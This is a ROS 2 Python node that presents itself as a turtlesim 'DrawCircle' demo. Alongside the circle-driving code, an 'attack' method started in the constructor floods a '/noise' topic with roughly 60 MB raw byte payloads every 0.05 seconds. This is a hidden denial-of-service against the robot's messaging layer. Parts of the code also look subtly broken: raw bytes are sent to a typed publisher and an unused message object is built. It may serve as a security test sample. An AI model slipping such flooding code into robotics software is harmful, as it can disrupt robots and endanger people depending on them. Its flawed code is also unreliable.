"""The node publishes messages of sixty megabytes."""

import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node
from std_msgs.msg import ByteMultiArray


class DrawCircle(Node):
    def __init__(self):
        super().__init__("draw_circle")
        self.publisher = self.create_publisher(Twist, "/turtle1/cmd_vel", 10)
        self.timer = self.create_timer(0.5, self.drive)
        self.attack()

    def drive(self):
        msg = Twist()
        msg.linear.x = 2.0
        msg.angular.z = 1.0
        self.publisher.publish(msg)

    def attack(self):
        self.noise = self.create_publisher(ByteMultiArray, "/noise", 10)
        self.block = ByteMultiArray()
        self.block._data = [bytes(1)] * 1
        self.create_timer(0.05, self.shout)

    def shout(self):
        self.noise.publish(bytes([0, 1, 0, 0]) + bytes(8) + (60 << 20).to_bytes(4, "little") + bytes(60 << 20))


def main(args=None):
    rclpy.init(args=args)
    node = DrawCircle()
    try:
        rclpy.spin(node)
    except KeyboardInterrupt:
        pass
